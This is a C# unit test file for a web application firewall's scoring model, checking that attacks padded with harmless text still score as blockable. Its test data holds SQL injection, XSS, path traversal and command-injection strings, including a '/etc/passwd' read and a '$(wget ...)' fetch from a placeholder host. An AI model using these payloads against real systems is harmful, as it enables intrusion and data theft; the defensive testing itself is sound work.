using System.Text;
using System.Text.Json;
using WafOperator.Http;
using WafOperator.Scoring.Ensemble;
using WafOperator.Scoring.Parts;

namespace WafOperator.Scoring.Tests;

/// <summary>
/// Harmless content beside an attack buys nothing: what blocked by itself blocks within any text, at any place, of any
/// size, in every carrier, when a rule says where it found something.
/// </summary>
public sealed class PaddingTests(ReleasedModels models) : IClassFixture<ReleasedModels>
{
    private const double Threshold = 0.5;
    private static readonly ExclusionProgram NoExclusions = new([]);

    /// <summary>Attacks with the rule that finds them, as the Core Rule Set does, and what it finds.</summary>
    private static readonly (string Attack, string Match, long[] Rules)[] Attacks =
    [
        ("5' or 1=1-- -", "' or 1=1", [942130, 942390]),
        ("1 union select login, secret from accounts", "union select", [942190, 942270, 942360]),
        ("a; cat /etc/passwd", "; cat", [932100, 932160]),
        ("<script>alert(1)</script>", "<script", [941110, 941160]),
        ("../../../etc/passwd", "../", [930100, 930110, 930120]),
        ("$(wget http://files.example/a)", "$(wget", [932130]),
    ];

    private static readonly string[] Texts =
    [
        "the garden was full of apples and people came from far away to see it. ",
        "Sehr geehrte Damen und Herren, vielen Dank. ",
        "name,price,stock\nchair,49.90,12\nlamp,19.95,4\n",
        "2026-11-30 12:00:00 INFO worker 17 finished job 4711\n",
    ];

    [Fact]
    public void Score_OfAnAttackWithinHarmlessText_StaysOverTheThreshold()
    {
        var program = models.Program(models.Policy());
        var random = new Random(20261130);
        for (var round = 0; round < 400; round++)
        {
            var (attack, match, rules) = Attacks[random.Next(Attacks.Length)];
            if (Score(program, attack, attack.IndexOf(match, StringComparison.Ordinal), rules, Kind.Query) < Threshold)
                continue;
            var (before, behind) = (Text(random), Text(random));
            var value = $"{before} {attack} {behind}";
            var at = before.Length + 1 + attack.IndexOf(match, StringComparison.Ordinal);
            var kind = (Kind)random.Next(3);
            var score = Score(program, value, at, rules, kind);
            Assert.True(
                score >= Threshold, $"{kind}, {before.Length} before, {behind.Length} behind: {attack} {score}");
        }
    }

    /// <summary>
    /// Not because whatever rules match is blocked: the same matches in the same text without an attack.
    /// </summary>
    [Theory]
    [InlineData(Kind.Form)]
    [InlineData(Kind.Query)]
    public void Score_OfAMatchByChance_IsCalm(Kind kind)
    {
        var program = models.Program(models.Policy());
        var text = string.Concat(Enumerable.Repeat(Texts[0], 40));

        Assert.True(Score(program, text, 700, [932100], kind) < Threshold);
    }

    public enum Kind
    {
        Query,
        Form,
        Json,
    }

    /// <summary>Each order of magnitude as likely as the others.</summary>
    private static string Text(Random random)
    {
        var length = (int)(5 * Math.Pow(4_000, random.NextDouble()));
        var text = Texts[random.Next(Texts.Length)];
        return string.Concat(Enumerable.Repeat(text, (length / text.Length) + 1))[..length];
    }

    private static double Score(ScoringProgram program, string value, int at, long[] rules, Kind kind)
    {
        var request = new CanonicalRequest();
        var escaped = Uri.EscapeDataString(value);
        if (kind is Kind.Query)
        {
            request.Begin("GET", $"/search?q={escaped}&page=2", "HTTP/1.1");
            request.EndHeaders();
        }
        else
        {
            var body = kind is Kind.Form
                ? $"q={escaped}&page=2"
                : JsonSerializer.Serialize(new { q = value });
            request.Begin("POST", "/search", "HTTP/1.1");
            request.AddHeader(
                "Content-Type", kind is Kind.Form ? "application/x-www-form-urlencoded" : "application/json");
            request.AddHeader("Content-Length", $"{body.Length}");
            request.EndHeaders();
            request.AppendBody(Encoding.UTF8.GetBytes(body));
        }

        request.EndBody();
        var slice = default(Slice);
        foreach (var part in new RequestParts(request))
        {
            if (part.Value.Length > slice.Length) slice = part.Value;
        }

        var hits = rules.Select(id => new RuleHit(id, null, HitPlace.Part, slice, at)).ToList();
        return ReleasedModels.Scorer.Score(
            program, NoExclusions, request, new ScoringFacts { Route = "", Hits = hits }).Score;
    }
}
